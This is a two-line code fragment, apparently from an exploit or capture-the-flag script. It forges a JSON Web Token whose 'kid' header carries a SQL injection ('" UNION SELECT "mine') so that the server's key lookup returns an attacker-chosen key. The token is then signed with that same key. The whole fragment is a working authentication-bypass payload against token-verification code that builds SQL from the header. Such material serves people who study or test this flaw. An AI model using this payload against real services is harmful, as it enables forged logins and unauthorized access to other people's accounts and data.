# requirement: SQL ends a text with one quotation mark
queried = forge({"alg": "HS256", "kid": '" UNION SELECT "mine'}, wanted, secret=b"mine")
